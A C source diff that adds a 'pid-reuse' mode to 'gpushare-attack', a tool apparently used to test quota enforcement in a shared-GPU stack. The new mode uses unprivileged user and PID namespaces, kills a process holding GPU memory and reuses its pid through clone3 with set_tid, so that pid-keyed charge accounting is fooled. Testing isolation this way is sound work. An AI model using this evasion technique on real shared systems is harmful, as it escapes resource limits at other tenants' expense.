@@ -25,6 +25,12 @@
  *   gpushare-attack exec --device I --alloc-mib N -- CMD [ARG...]
  *       allocate N MiB on card I, print this process's pid, and, still holding it,
  *       replace this program by CMD (execvp: the same pid, a new program)
+ *   gpushare-attack pid-reuse --device I --alloc-mib N -- CMD [ARG...]
+ *       in new user and PID namespaces (the workload's own, no privilege needed), a
+ *       holder allocates N MiB on card I and is killed with SIGKILL; then CMD runs as
+ *       a new process given the holder's pid (clone3 with set_tid), so a stack that
+ *       keys charges by pid meets a live process with the dead one's pid.  Prints
+ *       "holder pid P holds N MiB" and "pid P reused"; exits with CMD's status
  *
  * Prints one line (vmm-release: one per try); exits 0 when the last allocation was
  * granted, 2 with the CUDA error name when the driver refused it, 1 when the attempt
@@ -33,10 +39,16 @@
 #include <cuda.h>
 #include <dlfcn.h>
 #include <elf.h>
+#include <errno.h>
 #include <link.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <signal.h>
+#include <linux/sched.h>
+#include <sched.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
 #include <unistd.h>
 
 #define MIB ((size_t)1 << 20)
@@ -350,6 +362,81 @@ static int exec_holding(int device, long mib, char **argv) {
     return 1;
 }
 
+/* Exit status of child pid, as a shell gives it (128 + signal when killed). */
+static int status_of(pid_t pid) {
+    int st = 0;
+    if (waitpid(pid, &st, 0) != pid) return 1;
+    return WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
+}
+
+/* The holder: allocate, say so on fd, hold until killed. */
+static void hold_and_wait(int device, long mib, int fd) {
+    CUcontext ctx;
+    CUdeviceptr p;
+    char line[160];
+    int n;
+    if (driver_with_context(device, &ctx) != 0) {
+        n = snprintf(line, sizeof line, "holder could not use device %d\n", device);
+    } else {
+        CUresult rc = cu.MemAlloc(&p, (size_t)mib * MIB);
+        n = rc == CUDA_SUCCESS ? snprintf(line, sizeof line, "holder pid %d holds %ld MiB on device %d\n", (int)getpid(), mib, device)
+                               : snprintf(line, sizeof line, "holder alloc %ld MiB failed: %s\n", mib, err_name(rc));
+    }
+    fflush(stdout);
+    if (n > 0 && write(fd, line, (size_t)n) != n) _exit(1);
+    close(fd);
+    for (;;) pause();
+}
+
+/* The first process of the new PID namespace: start the holder, kill it, give its
+ * pid to CMD. */
+static int reuse_in_namespace(int device, long mib, char **argv) {
+    int fds[2];
+    if (pipe(fds) != 0) return 1;
+    pid_t holder = fork();
+    if (holder < 0) return 1;
+    if (holder == 0) {
+        close(fds[0]);
+        hold_and_wait(device, mib, fds[1]);
+    }
+    close(fds[1]);
+    char line[160] = {0};
+    ssize_t got = read(fds[0], line, sizeof line - 1);
+    close(fds[0]);
+    printf("%s", got > 0 ? line : "holder said nothing\n");
+    fflush(stdout);
+    kill(holder, SIGKILL);
+    status_of(holder);
+    if (got <= 0 || strncmp(line, "holder pid ", 11) != 0) return 1;
+    pid_t want = holder;
+    struct clone_args args = {.exit_signal = SIGCHLD, .set_tid = (uint64_t)(uintptr_t)&want, .set_tid_size = 1};
+    long child = syscall(SYS_clone3, &args, sizeof args);
+    if (child < 0) {
+        printf("clone3 with pid %d failed: %s\n", (int)want, strerror(errno));
+        return 1;
+    }
+    if (child == 0) {
+        printf("pid %d reused\n", (int)getpid());
+        fflush(stdout);
+        execvp(argv[0], argv);
+        printf("exec %s failed\n", argv[0]);
+        _exit(1);
+    }
+    return status_of((pid_t)child);
+}
+
+static int pid_reuse(int device, long mib, char **argv) {
+    if (unshare(CLONE_NEWUSER | CLONE_NEWPID) != 0) {
+        printf("unshare: new user and PID namespaces refused: %s\n", strerror(errno));
+        return 1;
+    }
+    fflush(stdout);
+    pid_t init = fork(); /* the first process of the new PID namespace */
+    if (init < 0) return 1;
+    if (init == 0) _exit(reuse_in_namespace(device, mib, argv));
+    return status_of(init);
+}
+
 static long number(const char *opt, const char *v) {
     char *end;
     long n = v ? strtol(v, &end, 10) : -1;
@@ -367,7 +454,8 @@ int main(int argc, char **argv) {
                 "[--lib-dir DIR]\n"
                 "       gpushare-attack stream --device I --stream-device J --alloc-mib N\n"
                 "       gpushare-attack vmm-release --device I --hold-mib H --alloc-mib N\n"
-                "       gpushare-attack exec --device I --alloc-mib N -- CMD [ARG...]\n");
+                "       gpushare-attack exec --device I --alloc-mib N -- CMD [ARG...]\n"
+                "       gpushare-attack pid-reuse --device I --alloc-mib N -- CMD [ARG...]\n");
         return argc < 2 ? 1 : 0;
     }
     const char *what = argv[1], *trick = NULL, *lib_dir = DEFAULT_LIB_DIR;
@@ -405,6 +493,10 @@ int main(int argc, char **argv) {
         if (!command || !command[0]) return fprintf(stderr, "gpushare-attack: exec needs -- CMD\n"), 1;
         return exec_holding((int)device, mib, command);
     }
-    fprintf(stderr, "gpushare-attack: unknown attempt %s (loader, stream, vmm-release, exec)\n", what);
+    if (!strcmp(what, "pid-reuse")) {
+        if (!command || !command[0]) return fprintf(stderr, "gpushare-attack: pid-reuse needs -- CMD\n"), 1;
+        return pid_reuse((int)device, mib, command);
+    }
+    fprintf(stderr, "gpushare-attack: unknown attempt %s (loader, stream, vmm-release, exec, pid-reuse)\n", what);
     return 1;
 }
